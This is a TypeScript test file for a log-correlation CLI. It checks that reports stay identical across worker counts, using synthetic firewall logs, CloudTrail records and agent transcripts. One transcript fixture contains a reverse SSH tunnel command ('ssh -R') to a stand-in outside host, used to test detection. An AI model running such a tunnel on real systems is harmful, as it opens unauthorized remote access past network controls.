// Scan workers must not change a report: the same bytes with none, two or three workers, the same
// strict failures, and year-less logs dated the same way.
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { ensureBuilt, ROOT, runCli, SAMPLES } from './built-cli.js';

beforeAll(() => ensureBuilt(), 180_000);

describe('correlate --workers', () => {
  it('gives byte-identical JSON reports with 0, 2 and 3 workers on the samples', () => {
    const reports = ['0', '2', '3'].map((n) => runCli([...SAMPLES, '--format', 'json', '--workers', n, '-q']));
    for (const r of reports) expect(r.status, r.stderr).toBe(0);
    expect(reports[1]!.stdout.equals(reports[0]!.stdout)).toBe(true);
    expect(reports[2]!.stdout.equals(reports[0]!.stdout)).toBe(true);
  });

  it('dates a year-less log by the other inputs the same way in a worker (no transcripts)', () => {
    const dir = mkdtempSync(join(tmpdir(), 'af-workers-'));
    writeFileSync(join(dir, 'kern.log'), 'Mar  2 10:00:00 host-a kernel: [1.0] DROP: IN=eth0 OUT= SRC=10.0.0.5 DST=203.0.113.9 LEN=60 PROTO=TCP SPT=40000 DPT=22\n');
    writeFileSync(join(dir, 'trail.jsonl'), JSON.stringify({ eventVersion: '1.09', eventTime: '2024-03-05T10:00:00Z', eventSource: 's3.amazonaws.com', eventName: 'ListBuckets', awsRegion: 'us-east-1', sourceIPAddress: '198.51.100.1', userIdentity: { type: 'IAMUser', arn: 'arn:aws:iam::1:user/a' }, errorCode: 'AccessDenied', eventID: 'e1' }) + '\n');
    const runs = ['0', '2'].map((n) => runCli(['correlate', dir, '--format', 'json', '--workers', n, '-q']));
    for (const r of runs) expect(r.status, r.stderr).toBe(0);
    expect(runs[1]!.stdout.equals(runs[0]!.stdout)).toBe(true);
    const report = JSON.parse(runs[0]!.stdout.toString());
    expect(report.violations.map((v: { time: string }) => v.time)).toContain('2024-03-02T10:00:00.000Z');
  });

  it('--strict fails on the same record with workers as without', () => {
    const dir = mkdtempSync(join(tmpdir(), 'af-workers-strict-'));
    writeFileSync(join(dir, 'a.log'), 'Mar  2 10:00:00 host-a kernel: DROP: IN=eth0 OUT= SRC=10.0.0.5 DST=203.0.113.9 PROTO=TCP SPT=1 DPT=2\nMar 32 10:00:01 host-a kernel: DROP: IN=eth0 OUT= SRC=10.0.0.5 DST=203.0.113.9 PROTO=TCP SPT=1 DPT=2\n');
    writeFileSync(join(dir, 'b.log'), 'Mar  2 10:00:02 host-b kernel: DROP: IN=eth0 OUT= SRC=10.0.0.6 DST=203.0.113.9 PROTO=TCP SPT=1 DPT=2\n');
    const runs = ['0', '2'].map((n) => runCli(['correlate', dir, '--strict', '--year', '2026', '--workers', n]));
    for (const r of runs) {
      expect(r.status).toBe(2);
      expect(r.stderr).toMatch(/a\.log:2: .*\(--strict\)/);
      expect(r.stderr).not.toMatch(/\n\s+at /);
    }
  });

  it('--strict names the transcript first, as without workers, while dated logs are scanned beside it', () => {
    const dir = mkdtempSync(join(tmpdir(), 'af-workers-early-'));
    const call = (id: string, at: string) => JSON.stringify({ v: 'agent-events/1', type: 'tool_call', session: 's1', call_id: id, tool: 'bash', command: 'ls', start: at, end: at });
    writeFileSync(join(dir, 'z-agent.jsonl'), `${call('c1', '2024-03-05T10:00:00Z')}\n${call('c2', '2024-03-05T10:00:05Z')}\n{not json\n`);
    const trail = (id: string) => JSON.stringify({ eventVersion: '1.09', eventTime: '2024-03-05T10:00:00Z', eventSource: 's3.amazonaws.com', eventName: 'ListBuckets', awsRegion: 'us-east-1', sourceIPAddress: '198.51.100.1', userIdentity: { type: 'IAMUser', arn: 'arn:aws:iam::1:user/a' }, eventID: id });
    writeFileSync(join(dir, 'a-trail.jsonl'), `${trail('e1')}\n${trail('e2')}\n{"eventTime": \n`);
    writeFileSync(join(dir, 'b-trail.jsonl'), `${trail('e3')}\n`);
    const runs = ['0', '2'].map((n) => runCli(['correlate', dir, '--strict', '--workers', n]));
    for (const r of runs) {
      expect(r.status).toBe(2);
      expect(r.stderr).toMatch(/z-agent\.jsonl:3: .*\(--strict\)/);
    }
    expect(runs[1]!.stderr).toBe(runs[0]!.stderr);
  });

  it('gives the same report with transcripts that copy each other and date a syslog read in a worker', () => {
    const dir = mkdtempSync(join(tmpdir(), 'af-workers-transcripts-'));
    const call = (session: string, id: string, at: string, command: string) =>
      JSON.stringify({ v: 'agent-events/1', type: 'tool_call', session, call_id: id, tool: 'bash', command, start: at, end: at.replace(':00Z', ':09Z'), host: 'host-a' });
    const episode = (n: number) => [0, 1, 2].map((i) => call(`ep${n}`, `c${i}`, `2024-03-05T10:0${i}:00Z`, i === 1 ? 'ssh -R 9000:localhost:22 203.0.113.9' : 'ls')).join('\n') + '\n';
    writeFileSync(join(dir, 'a-episode.jsonl'), episode(1));
    writeFileSync(join(dir, 'b-episode.jsonl'), episode(2));
    writeFileSync(join(dir, 'c-copy.jsonl'), episode(1));
    writeFileSync(join(dir, 'kern.log'), 'Mar  5 10:01:02 host-a kernel: DROP: IN=eth0 OUT= SRC=10.0.0.5 DST=203.0.113.9 PROTO=TCP SPT=40000 DPT=22\n');
    const runs = ['0', '2', '3'].map((n) => runCli(['correlate', dir, '--format', 'json', '--workers', n, '-q']));
    for (const r of runs) expect(r.status, r.stderr).toBe(0);
    expect(runs[1]!.stdout.equals(runs[0]!.stdout)).toBe(true);
    expect(runs[2]!.stdout.equals(runs[0]!.stdout)).toBe(true);
    const report = JSON.parse(runs[0]!.stdout.toString());
    expect(report.violations.map((v: { time: string }) => v.time)).toEqual(['2024-03-05T10:01:02.000Z']);
    // The two episodes ran the same command at the same time: a tie, both named, the copy not counted.
    const best = report.violations[0].candidates.filter((c: { callId: string }) => c.callId === 'c1');
    expect(best.map((c: { session: string }) => c.session).sort()).toEqual(['ep1', 'ep2']);
    expect(JSON.stringify(report.inputs.find((i: { path: string }) => i.path.endsWith('c-copy.jsonl')))).toMatch(/cop/);
  });

  it('gives the same report when a damaged line starts a slice of a large CloudTrail file', () => {
    // A slice is detected from its own first lines: a broken one there made a slice of JSON lines look
    // like a document, and CloudTrail read it as one: a whole slice lost, with workers only.
    const dir = mkdtempSync(join(tmpdir(), 'af-workers-slice-'));
    const record = (i: number) => JSON.stringify({ eventVersion: '1.09', eventTime: new Date(Date.UTC(2024, 2, 5, 10) + i * 1000).toISOString().replace('.000', ''), eventSource: 'ec2.amazonaws.com', eventName: i % 97 === 0 ? 'AuthorizeSecurityGroupIngress' : 'DescribeInstances', awsRegion: 'us-east-1', sourceIPAddress: '198.51.100.1', userIdentity: { type: 'IAMUser', arn: 'arn:aws:iam::1:user/a' }, ...(i % 89 === 0 ? { errorCode: 'AccessDenied' } : {}), eventID: `e${i}`, requestParameters: { pad: 'x'.repeat(800) } });
    const lines = Array.from({ length: 2400 }, (_, i) => record(i));
    let text = lines.join('\n') + '\n';
    // Two workers cut the file once, at the first line start after its middle (sliceStarts).
    const cutAt = text.indexOf('\n', Math.floor(Buffer.byteLength(text) / 2)) + 1;
    const end = text.indexOf('\n', cutAt);
    text = `${text.slice(0, cutAt)}${text.slice(cutAt, end - 1)} ${text.slice(end)}`;
    writeFileSync(join(dir, 'trail.jsonl'), text);
    const runs = ['0', '2'].map((n) => runCli(['correlate', dir, '--format', 'json', '--workers', n, '-q']));
    for (const r of runs) expect(r.status, r.stderr).toBe(0);
    const report = JSON.parse(runs[0]!.stdout.toString());
    expect(report.inputs[0].records).toBe(2399);
    expect(report.errors.map((e: { line: number }) => e.line)).toEqual([text.slice(0, cutAt).split('\n').length]);
    expect(runs[1]!.stdout.toString()).toBe(runs[0]!.stdout.toString());
  });

  it('stops the workers it started early when the rules turn out to be broken', () => {
    const dir = mkdtempSync(join(tmpdir(), 'af-workers-rules-'));
    writeFileSync(join(dir, 'bad.yml'), 'title: broken\ndetection:\n  sel: { action: deny }\n  condition: sel and nothing\n');
    const started = Date.now();
    const r = runCli([...SAMPLES, '--workers', '2', '--rules', join(dir, 'bad.yml')]);
    expect(r.status).toBe(2);
    expect(r.stderr).toMatch(/bad\.yml/);
    expect(r.stderr).not.toMatch(/\n\s+at /);
    // The process ends by itself: no worker is left running.
    expect(Date.now() - started).toBeLessThan(60_000);
  });
});

describe('timeline --workers', () => {
  it('writes the same bytes with inputs read again in workers as without, in every format, with a skew and a time range', () => {
    const flags = ['--skew', 'gpu-node-08-kern.log=-2s', '--since', '2026-03-02T10:00:00Z', '--until', '2026-03-02T11:30:00Z', '-q'];
    for (const format of ['jsonl', 'table', 'timesketch', 'csv']) {
      const runs = ['0', '2'].map((n) => runCli(['timeline', ...SAMPLES.slice(1), '--format', format, '--workers', n, ...flags]));
      for (const r of runs) expect(r.status, r.stderr).toBe(0);
      expect(runs[0]!.stdout.length, format).toBeGreaterThan(1000);
      expect(runs[1]!.stdout.equals(runs[0]!.stdout), format).toBe(true);
    }
  });

  it('merges inputs read in the workers with those read here into the same bytes (more inputs than the workers take)', () => {
    const dir = mkdtempSync(join(tmpdir(), 'af-workers-many-'));
    for (let f = 0; f < 40; f++) {
      const lines = Array.from({ length: 30 }, (_, i) => `Mar  2 10:${String(i).padStart(2, '0')}:${String((f * 7) % 60).padStart(2, '0')} host-${f % 3} kernel: [1.0] DROP: IN=eth0 OUT= SRC=10.0.0.${f} DST=203.0.113.9 LEN=60 PROTO=TCP SPT=${40000 + i} DPT=22`);
      writeFileSync(join(dir, `kern-${String(f).padStart(2, '0')}.log`), lines.join('\n') + '\n');
    }
    const runs = ['0', '2'].map((n) => runCli(['timeline', dir, '--year', '2026', '--format', 'jsonl', '--workers', n, '-q']));
    for (const r of runs) expect(r.status, r.stderr).toBe(0);
    expect(runs[0]!.stdout.toString().split('\n')).toHaveLength(40 * 30 + 1);
    expect(runs[1]!.stdout.equals(runs[0]!.stdout)).toBe(true);
  });

  it('fails on an input that changed since the first reading, when a worker reads it again', async () => {
    const built = (await import(join(ROOT, 'dist/pipeline.js'))) as typeof import('../../src/pipeline.js');
    const dir = mkdtempSync(join(tmpdir(), 'af-workers-timeline-'));
    const line = (s: number) => `Mar  2 10:00:${String(s).padStart(2, '0')} host-a kernel: [1.0] DROP: IN=eth0 OUT= SRC=10.0.0.5 DST=203.0.113.9 LEN=60 PROTO=TCP SPT=40000 DPT=22`;
    const file = join(dir, 'kern.log');
    writeFileSync(file, [1, 2, 3].map(line).join('\n') + '\n');
    const options = { paths: [dir], tz: 'UTC', year: 2026, skews: [], autoSkew: true, rules: [], minConfidence: 0.5, strict: false, geoip: [], workers: 2, clocksOnly: true };
    const drain = async (plan: Awaited<ReturnType<typeof built.analyze>>['readPlan']) => {
      const out: string[] = [];
      const { lineFormatter } = (await import(join(ROOT, 'dist/report/timeline.js'))) as typeof import('../../src/report/timeline.js');
      for await (const batch of built.timelineLines(options, plan, { format: 'jsonl', line: lineFormatter('jsonl') })) out.push(...batch);
      return out;
    };
    const first = await built.analyze(options);
    expect(await drain(first.readPlan)).toHaveLength(3);
    // Other bytes, in the same order: the SHA-256 differs.
    writeFileSync(file, [1, 2, 4].map(line).join('\n') + '\n');
    await expect(drain(first.readPlan)).rejects.toThrow(/SHA-256 differs from the first reading/);
    // Out of order: the worker stops at the record, named by its line.
    writeFileSync(file, [1, 5, 3].map(line).join('\n') + '\n');
    await expect(drain(first.readPlan)).rejects.toThrow(/no longer in the order of the first reading/);
  });
});
